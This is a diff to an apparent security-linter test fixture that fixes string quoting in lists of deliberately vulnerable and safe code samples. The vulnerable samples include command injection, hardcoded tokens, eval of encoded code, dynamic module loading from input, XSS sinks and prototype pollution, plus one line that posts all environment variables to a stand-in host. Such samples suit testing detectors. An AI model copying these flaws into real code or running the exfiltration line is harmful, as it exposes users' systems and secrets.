@@ -31,9 +31,7 @@ FLAWS = [
     ("SEC047", "a.py", 'import subprocess\n\nclass Hooks:\n    def __init__(self, config):\n        self._config = config\n\n    def fire(self):\n        subprocess.Popen(self._config["on_save"].split())  # <- here'),
     ("SEC047", "a.js", 'const { spawn } = require("child_process");\nexports.start = (manifest) => spawn(manifest.bin, ["--stdio"]); // <- here'),
     # secrets
-    ("SEC040", "a.ts", 
-        "export const client = connect({ url: "https://a.example", token: "9f8a7b6c5d4e3f2a1b0c" }); // <- here"
-    ),
+    ("SEC040", "a.ts", 'export const client = connect({ url: "https://a.example", token: "9f8a7b6c5d4e3f2a1b0c" }); // <- here'),
     ("SEC040", "a.py", 'from dataclasses import dataclass\n\n@dataclass\nclass Settings:\n    host: str = "a.example"\n    api_key: str = "k3y-7d1f0a9b2c4e6f80"  # <- here'),
     ("SEC040", "a.js", 'fetch(url, { headers: { Authorization: "Bearer 8c1e7fa0d2b94c3fb5a6" } }); // <- here'),
     ("SEC040", "a.js", 'class A {\n  static #SECRET = "s3cr3t-Value-0x91"; // <- here\n}'),
@@ -50,14 +48,9 @@ FLAWS = [
     ("SEC051", "a.js", 'const s = "ZXZhbA==";\nnew Function(atob(s))(); // <- here'),
     # modules
     ("SEC049", "a.py", 'from importlib import import_module\n\ndef on_request(request):\n    return import_module(request.json["handler"]).handle(request)  # <- here'),
-    ("SEC049", "a.js", 
-        "module.exports = (socket) => socket.on("message", (msg) => require(msg.module).run()); // <- here"
-    ),
+    ("SEC049", "a.js", 'module.exports = (socket) => socket.on("message", (msg) => require(msg.module).run()); // <- here'),
     # html
-    ("SEC052", "a.tsx", 
-        "export const Note = ({ message }: { message: { html: string } }) => <p dangerouslySetInnerHTML={{ __html: "
-        "message.html }} />; // <- here"
-    ),
+    ("SEC052", "a.tsx", 'export const Note = ({ message }: { message: { html: string } }) => <p dangerouslySetInnerHTML={{ __html: message.html }} />; // <- here'),
     ("SEC052", "a.ts", 'export function show(panel: any, payload: any) {\n  panel.webview.html = `<h1>${payload.title}</h1>`; // <- here\n}'),
     ("SEC052", "a.js", 'export async function load(root) {\n  const reply = await fetch("https://a.example/news");\n  root.innerHTML = await reply.text(); // <- here\n}'),
     # data
@@ -82,10 +75,7 @@ FLAWS = [
     ("SEC059", "a.py", 'import asyncio\nimport os\nimport sys\n\nasync def launch(extension):\n    return await asyncio.create_subprocess_exec(\n        sys.executable, extension.entry, env={**os.environ, "ID": extension.id}  # <- here\n    )'),
     ("SEC060", "a.py", 'import json\nimport os\n\nimport requests\n\ndef beat():\n    requests.post("https://a.example", data=json.dumps(dict(os.environ)), timeout=3)  # <- here'),
     ("SEC061", "a.js", 'function deepMerge(a, b) {\n  for (const k in b) {\n    if (typeof b[k] === "object") deepMerge(a[k], b[k]);\n    else a[k] = b[k]; // <- here\n  }\n  return a;\n}'),
-    ("SEC062", "a.js", 
-        "exports.routes = (app) => app.get("/find", (req, res) => res.json(list.filter((x) => new "
-        "RegExp(req.query.q).test(x)))); // <- here"
-    ),
+    ("SEC062", "a.js", 'exports.routes = (app) => app.get("/find", (req, res) => res.json(list.filter((x) => new RegExp(req.query.q).test(x)))); // <- here'),
     ("SEC064", "a.py", 'import random\n\nclass Sessions:\n    def open(self):\n        self.session_id = "%032x" % random.getrandbits(128)  # <- here'),
     ("SEC065", "a.js", 'const crypto = require("crypto");\nexports.hashPassword = (text) => crypto.createHash("sha512").update(text).digest("hex"); // <- here'),
     ("SEC066", "a.py", 'from pathlib import Path\n\ndef open_up(folder: Path):\n    folder.chmod(0o777)  # <- here'),
@@ -125,9 +115,7 @@ RIGHT = [
     ("SEC058", "a.js", 'const NS = "http://www.w3.org/1999/xhtml";\nfetch("http://127.0.0.1:3000/health");\ndocument.createElementNS(NS, "b");'),
     ("SEC059", "a.ts", 'import { fork } from "node:child_process";\nimport { scrub } from "./env";\nexport const start = (plugin: { main: string }) => fork(plugin.main, [], { env: scrub(process.env) });'),
     ("SEC059", "a.ts", 'import { execFile } from "node:child_process";\nexport const version = () => execFile("git", ["--version"], { env: process.env });'),
-    ("SEC060", "a.js", 
-        "logger.info("started", { mode: process.env.NODE_ENV, count: Object.keys(process.env).length });"
-    ),
+    ("SEC060", "a.js", 'logger.info("started", { mode: process.env.NODE_ENV, count: Object.keys(process.env).length });'),
     ("SEC061", "a.js", 'function count(words) {\n  const table = {};\n  for (const w of words) table[w] = (table[w] || 0) + 1;\n  return table;\n}\nfunction clone(o) {\n  const made = {};\n  for (const k of Object.keys(o)) made[k] = typeof o[k] === "object" ? clone(o[k]) : o[k];\n  return made;\n}'),
     ("SEC062", "a.py", 'import re\n\nPATTERNS = {"id": r"\\w+"}\n\ndef find(request, name):\n    return re.search(PATTERNS["id"], request.query["q"])'),
     ("SEC064", "a.js", 'const color = Math.random();\nconst delay = base * (1 + Math.random());\nconst tokens = pick(list, Math.floor(Math.random() * 3));'),
